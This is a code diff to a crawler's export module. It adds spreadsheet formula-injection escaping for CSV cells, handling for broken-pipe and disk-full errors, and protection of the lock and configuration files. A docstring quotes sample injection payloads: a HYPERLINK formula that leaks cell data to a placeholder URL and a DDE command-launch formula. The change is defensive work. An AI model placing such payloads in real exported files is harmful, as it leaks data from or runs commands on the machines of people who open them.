@@ -5,6 +5,12 @@ CSV is written as UTF-8 with a byte-order mark: without it, spreadsheet programs
 (Excel in particular) read the file as a legacy code page and Arabic comes out as
 mojibake. Lists in CSV cells are joined with "; "; ``facts`` is a JSON object.
 
+Titles and text come from the monitored sites, so a CSV cell may begin with a formula
+(``=HYPERLINK("http://…?leak="&A2,"…")``, ``+cmd|' /C calc'!A1``, ``@SUM(…)``) that a
+spreadsheet would run. Every cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a
+carriage return is prefixed with an apostrophe (OWASP's advice): spreadsheets then show
+it as text, and the text stays readable.
+
 The store holds no secrets (channel URLs live only in the config), so nothing here
 needs redacting; a test keeps it that way.
 """
@@ -12,6 +18,7 @@ needs redacting; a test keeps it that way.
 from __future__ import annotations
 
 import csv
+import errno
 import io
 import json
 import os
@@ -26,6 +33,7 @@ from typing import IO, Any
 from urllib.parse import urlsplit
 
 from crawler.errors import ExportError
+from crawler.lock import lock_path
 from crawler.store import ArchiveFilter, Store, decompress
 
 FORMATS = ("jsonl", "csv", "warc")
@@ -79,11 +87,21 @@ def write_csv(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
         record["probable"] = "; ".join(record["probable"])
         record["facts"] = json.dumps(record["facts"], ensure_ascii=False)
         record["duplicates"] = "; ".join(d["url"] for d in record["duplicates"])
-        writer.writerow(record)
+        writer.writerow({key: spreadsheet_safe(value) for key, value in record.items()})
         count += 1
     text.flush()
     text.detach()
     return count
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text, never runs as a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def write_warc(store: Store, where: ArchiveFilter, out: IO[bytes]) -> int:
@@ -188,27 +206,58 @@ WRITERS: dict[str, Callable[[Store, ArchiveFilter, IO[bytes]], int]] = {
 
 
 def export(store: Store, fmt: str, where: ArchiveFilter, out_path: Path | None, *,
-           base: Path | None = None) -> int:
+           base: Path | None = None, config_path: Path | None = None) -> int:
     """Write an export to ``out_path`` (atomically) or to stdout. Returns the count of
     articles (JSONL, CSV) or captures (WARC) written."""
     if fmt not in WRITERS:
         raise ExportError(f"unknown export format {fmt!r}; use one of {', '.join(FORMATS)}")
     if out_path is None:
-        stdout = sys.stdout.buffer
-        count = WRITERS[fmt](store, where, stdout)
+        return _to_stdout(WRITERS[fmt], store, where)
+    target = check_output_path(out_path, store_path=store.path, base=base,
+                               config_path=config_path)
+    try:
+        with _atomic(target) as stream:
+            return WRITERS[fmt](store, where, stream)
+    except OSError as exc:
+        raise _write_error(target, exc) from None
+
+
+def _to_stdout(writer: Callable[[Store, ArchiveFilter, IO[bytes]], int], store: Store,
+               where: ArchiveFilter) -> int:
+    stdout = sys.stdout.buffer
+    try:
+        count = writer(store, where, stdout)
         stdout.flush()
-        return count
-    target = check_output_path(out_path, store_path=store.path, base=base)
-    with _atomic(target) as stream:
-        return WRITERS[fmt](store, where, stream)
+    except BrokenPipeError:
+        # Nothing more can be written; point stdout at /dev/null so the interpreter's own
+        # flush at exit does not print a second error.
+        devnull = os.open(os.devnull, os.O_WRONLY)
+        os.dup2(devnull, sys.stdout.fileno())
+        os.close(devnull)
+        raise ExportError("standard output was closed before the export was written (the "
+                          "reading program ended early); nothing more was exported") from None
+    return count
 
 
-def check_output_path(path: Path, *, store_path: Path, base: Path | None = None) -> Path:
+def _write_error(target: Path, exc: OSError) -> ExportError:
+    from crawler.store_errors import mount_point
+
+    if exc.errno == errno.ENOSPC:
+        return ExportError(f"{target}: the disk holding {target.parent} "
+                           f"({mount_point(target.parent)}) is full; free space or write "
+                           "the export elsewhere")
+    return ExportError(f"{target}: cannot write the export in {target.parent} "
+                       f"({exc.strerror or exc}); choose a folder you can write to")
+
+
+def check_output_path(path: Path, *, store_path: Path, base: Path | None = None,
+                      config_path: Path | None = None) -> Path:
     """The absolute path to write an export to, or an ExportError saying why not.
 
     Refused: a folder that does not exist, a path that is a folder, a path outside
-    ``base`` (when given; '..' cannot climb out of it), and the store file itself or its
-    WAL and shared-memory files.
+    ``base`` (when given; '..' cannot climb out of it), the store file itself or its
+    WAL and shared-memory files, the store's lock file (overwriting it would let a second
+    daemon run on the store) and the configuration file.
     """
     if base is not None:
         root = base.resolve()
@@ -224,10 +273,22 @@ def check_output_path(path: Path, *, store_path: Path, base: Path | None = None)
     store = store_path.resolve()
     protected = {store, store.with_name(store.name + "-wal"), store.with_name(store.name + "-shm"),
                  store.with_name(store.name + "-journal")}
-    if target in protected or (target.exists() and store.exists()
-                               and os.path.samefile(target, store)):
+    if target in protected or _same_file(target, store):
         raise ExportError(f"{path}: is the store itself; write the export somewhere else")
+    if target == lock_path(store) or _same_file(target, lock_path(store)):
+        raise ExportError(f"{path}: is the store's lock file; write the export somewhere else")
+    if config_path is not None and (target == config_path.resolve()
+                                    or _same_file(target, config_path)):
+        raise ExportError(f"{path}: is raqib's configuration file; write the export somewhere "
+                          "else")
     return target
+
+
+def _same_file(one: Path, other: Path) -> bool:
+    try:
+        return one.exists() and other.exists() and os.path.samefile(one, other)
+    except OSError:
+        return False
 
 
 @contextmanager
